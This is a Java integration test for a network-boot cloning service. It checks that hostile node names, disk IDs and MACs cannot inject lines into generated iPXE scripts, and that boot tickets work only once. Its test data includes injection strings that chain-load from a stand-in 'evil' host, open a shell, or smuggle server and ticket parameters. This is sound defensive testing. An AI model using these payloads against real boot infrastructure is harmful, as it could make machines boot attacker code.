package io.pureboot.clone.controller.boot;

import static io.pureboot.clone.controller.Operators.admin;
import static io.pureboot.clone.controller.Operators.node;
import static io.pureboot.clone.controller.Operators.randomMac;
import static io.pureboot.clone.controller.Operators.registerNode;
import static io.pureboot.clone.controller.Operators.ticketOf;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.startsWith;

import io.pureboot.clone.controller.Sessions;
import io.pureboot.clone.events.storage.StagingStatus;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Hostile names, disk ids and MACs through the real REST path: whatever the operator API accepted, no script line is
 * anything but one of the shapes clone-service writes; and a boot ticket works once.
 */
@QuarkusTest
class BootHardeningTest {

    private static final List<String> HOSTILE = List.of("x\nchain http://evil.example/pwn", "x\r\nchain http://evil",
            "${net0/mac}", "x pureboot.token=x", "x pureboot.server=http://evil", "x||chain http://evil",
            "x&&shell", "x#", "x\u0000y", "x\tpureboot.ticket=x");

    /** Every line a script may have: the agent's, the chain, the local disk's (the kernel line checked by parts). */
    private static final List<Pattern> SHAPES = List.of(
            Pattern.compile("#!ipxe"),
            Pattern.compile("# PureBoot Clone: boots into [a-z-]+"),
            Pattern.compile("# PureBoot Clone: nothing pending for ([0-9a-f]{2}:){5}[0-9a-f]{2}, booting from the local disk"),
            Pattern.compile("sanboot --no-describe --drive 0x80 \\|\\| exit"),
            Pattern.compile("sleep 5 \\|\\|"),
            Pattern.compile("imgfree (vmlinuz|initrd\\.img|ca\\.img) \\|\\|"),
            Pattern.compile("echo PureBoot Clone: could not load the boot image from http://controller\\.test/boot, "
                    + "leaving the node to its firmware"),
            Pattern.compile("exit"),
            Pattern.compile("kernel --name vmlinuz http://controller\\.test/boot/pureboot-vmlinuz initrd=initrd\\.img"
                    + "( [A-Za-z0-9._,:/+@=-]+)+ && initrd --name initrd\\.img "
                    + "http://controller\\.test/boot/pureboot-initrd\\.img && boot \\|\\|"));
    private static final Pattern SETTING = Pattern.compile("pureboot\\.([a-z_]+)=(.*)");

    @Test
    void hostileNamesAndDiskIdsNeverReachAScript() {
        for (String hostile : HOSTILE) {
            String sourceMac = randomMac();
            // Whether the operator API takes each value is input validation's (docs/security.md); whatever it takes
            // must not reach a script.
            Response registered = admin().body(Map.of("mac", sourceMac, "name", hostile)).post("/api/v1/nodes");
            String source = registered.statusCode() == 201 ? registered.path("id")
                    : registerNode(sourceMac, "hostile-source");
            String target = registerNode(randomMac(), "hostile-target");
            Response inventory = admin().body(Map.of("hostname", "h", "disks", List.of(Map.of(
                            "stable_id", hostile, "size_bytes", 1L << 30, "logical_sector_size", 512,
                            "physical_sector_size", 4096, "table_type", "gpt", "partitions", List.of()))))
                    .put("/api/v1/nodes/{id}/inventory", source);
            if (inventory.statusCode() == 200) {
                armStagedSource(source, target, hostile);
            }
            assertScriptIsWellFormed(Sessions.bootScript(sourceMac));
        }
    }

    @Test
    void hostileMacsAreRefusedWithTheFieldNamed() {
        for (String mac : List.of("52:54:00:12:34:56\nchain http://evil", "${net0/mac}", "52:54:00:12:34:5\u0000",
                "52:54:00:12:34:56 x")) {
            given().queryParam("mac", mac).get("/api/v1/boot/ipxe").then().statusCode(400)
                    .body("fields[0].field", equalTo("mac"));
        }
    }

    @Test
    void aTicketWorksOnceAndItsReplayIsAudited() {
        Sessions.ArmedSource armed = Sessions.armedStagedSource("ticket-source", "ticket-target");
        String ticket = ticketOf(Sessions.bootScript(armed.sourceMac()));

        String token = exchange(ticket).then().statusCode(200).header("Cache-Control", "no-store")
                .body("token", startsWith("pbn_")).extract().path("token");
        node(token).get("/api/v1/node/instructions").then().statusCode(200).body("role", equalTo("source"));

        exchange(ticket).then().statusCode(401).header("Cache-Control", "no-store")
                .body("message", equalTo("this boot ticket was used already"));
        admin().get("/api/v1/audit?session={id}", armed.sessionId()).then().statusCode(200)
                .body("find { it.type == 'boot.ticket.replayed' }.data.node_id", equalTo(armed.source()));
        exchange("pbt_" + "Q".repeat(43)).then().statusCode(401).body("message", equalTo("unknown boot ticket"));
        exchange("pbn_not-a-ticket").then().statusCode(400).body("fields[0].field", equalTo("ticket"));
        // a ticket is no bearer credential
        node(ticketOf(Sessions.bootScript(armed.sourceMac()))).get("/api/v1/node/instructions").then()
                .statusCode(401);
    }

    @Test
    void aTradeWhoseAnswerWasLostIsAnsweredAgainForItsAttemptOnly() {
        Sessions.ArmedSource armed = Sessions.armedStagedSource("retry-source", "retry-target");
        String ticket = ticketOf(Sessions.bootScript(armed.sourceMac()));
        String attempt = "A".repeat(32);

        String first = exchange(ticket, attempt).then().statusCode(200).extract().path("token");
        // the agent timed out before the answer came and retries the same trade: a new token, no replay
        String second = exchange(ticket, attempt).then().statusCode(200).extract().path("token");
        assertThat(second).startsWith("pbn_").isNotEqualTo(first);
        node(second).get("/api/v1/node/instructions").then().statusCode(200).body("role", equalTo("source"));
        admin().get("/api/v1/audit?session={id}", armed.sessionId()).then().statusCode(200)
                .body("findAll { it.type == 'boot.ticket.replayed' }", hasSize(0));

        // whoever read the ticket from the script knows no attempt, or guesses another: a replay, audited
        exchange(ticket).then().statusCode(401).body("message", equalTo("this boot ticket was used already"));
        exchange(ticket, "B".repeat(32)).then().statusCode(401)
                .body("message", equalTo("this boot ticket was used already"));
        admin().get("/api/v1/audit?session={id}", armed.sessionId()).then().statusCode(200)
                .body("findAll { it.type == 'boot.ticket.replayed' }", hasSize(2));
        exchange(ticketOf(Sessions.bootScript(armed.sourceMac())), "short").then().statusCode(400)
                .body("fields[0].field", equalTo("attempt"));
    }

    @Test
    void aTicketTradedWithoutAnAttemptCannotBeRetried() {
        Sessions.ArmedSource armed = Sessions.armedStagedSource("no-attempt-source", "no-attempt-target");
        String ticket = ticketOf(Sessions.bootScript(armed.sourceMac()));
        exchange(ticket).then().statusCode(200);
        exchange(ticket, "A".repeat(32)).then().statusCode(401)
                .body("message", equalTo("this boot ticket was used already"));
    }

    private static Response exchange(String ticket, String attempt) {
        return given().contentType("application/json").body(Map.of("ticket", ticket, "attempt", attempt))
                .post("/api/v1/node/ticket");
    }

    private static Response exchange(String ticket) {
        return given().contentType("application/json").body(Map.of("ticket", ticket)).post("/api/v1/node/ticket");
    }

    private static void armStagedSource(String source, String target, String diskId) {
        String backendId = Sessions.registerBackend();
        Response defined = admin().body(Map.of("name", "s", "clone_mode", "staged", "source_node_id", source,
                        "source_disk_id", diskId, "staging_backend_id", backendId,
                        "targets", List.of(Map.of("node_id", target, "disk_id", "wwn-t"))))
                .post("/api/v1/clone-sessions");
        if (defined.statusCode() != 201) {
            return;
        }
        String sessionId = defined.path("id");
        Sessions.planAndStart(sessionId, 1L << 30).statusCode(200);
        Sessions.staging(sessionId, backendId, StagingStatus.PROVISIONING, StagingStatus.PROVISIONED);
        Sessions.awaitState(sessionId, "source_armed");
    }

    private static void assertScriptIsWellFormed(String script) {
        assertThat(script).doesNotContain("\r", "\u0000", "evil", "${");
        for (String line : script.split("\n", -1)) {
            if (line.isEmpty()) {
                continue;
            }
            assertThat(SHAPES).as("line %s of\n%s", line, script).anyMatch(shape -> shape.matcher(line).matches());
            for (String word : line.split(" ")) {
                var setting = SETTING.matcher(word);
                if (setting.matches()) {
                    assertThat(setting.group(1)).as("setting in %s", line).isIn("network_timeout", "disk_timeout",
                            "direct_timeout", "after", "after_failure", "server", "session", "mode", "disk", "ticket");
                }
            }
            assertThat(line.split(" pureboot\\.ticket=", -1).length).as("tickets in %s", line).isLessThanOrEqualTo(2);
        }
    }
}
